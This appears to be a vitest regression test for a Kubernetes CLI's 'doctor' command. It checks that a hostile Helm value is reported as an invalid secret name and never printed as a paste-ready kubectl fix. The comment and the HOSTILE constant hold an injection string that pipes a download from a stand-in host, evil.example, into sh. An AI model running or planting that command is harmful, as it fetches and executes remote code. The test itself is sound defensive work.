/**
 * The doctor's fix commands and values read from the release (issue 13, item 8). Reproduced before
 * the fix: a release whose awsCredentialsSecret was `x; curl https://evil.example/p | sh` printed
 * `kubectl create secret generic x; curl https://evil.example/p | sh --from-file …` as the fix to
 * paste. Now the built binary, on a real release on the test bed, names the value as an invalid
 * secret name and prints no command for it, in the text output and in --output json.
 */
import { expect, it } from 'vitest';
import { runCli } from './cliHarness.js';
import { doctorJsonChecks } from './doctorJson.js';
import { describeWithCharts, kubeClient, namespacesDeletedAfterAll, testbed, uniqueNamespace } from './testbed.js';
import { installOnTestbed, SMALL_BUILDKIT } from './testbedInstall.js';

const HOSTILE = 'x; curl https://evil.example/p | sh';

describeWithCharts('doctor: a hostile value in the release never becomes a fix command', () => {
  const kube = kubeClient();
  const namespaces = namespacesDeletedAfterAll(() => kube);

  it('awsCredentialsSecret set to a shell command: reported as an invalid name, no command printed', async () => {
    const ns = uniqueNamespace('hostile');
    namespaces.push(ns);
    await installOnTestbed({
      kube,
      helmBinary: testbed.helm4!,
      chart: '0.6.10',
      namespace: ns,
      ...SMALL_BUILDKIT,
      values: `awsCredentialsSecret: ${JSON.stringify(HOSTILE)}\n`,
      waitForRollout: false,
    });
    const target = ['--kubeconfig', testbed.kubeconfig!, '-n', ns];

    const checks = await doctorJsonChecks(target);
    const row = checks.find((c) => c.id === 'secrets.aws-credentials')!;
    expect(row).toMatchObject({
      status: 'fail',
      summary: expect.stringMatching(/^awsCredentialsSecret in the release's values is not a valid secret name: /),
      fix: null,
    });
    for (const c of checks) expect(c.fix ?? '', `fix of ${c.id}`).not.toMatch(/curl/);

    const text = await runCli(['doctor', ...target]);
    expect(text.stdout).toMatch(/awsCredentialsSecret in the release's values is not a valid secret name/);
    expect(text.stdout).not.toMatch(/^\s*fix: .*curl/m);
  });
});
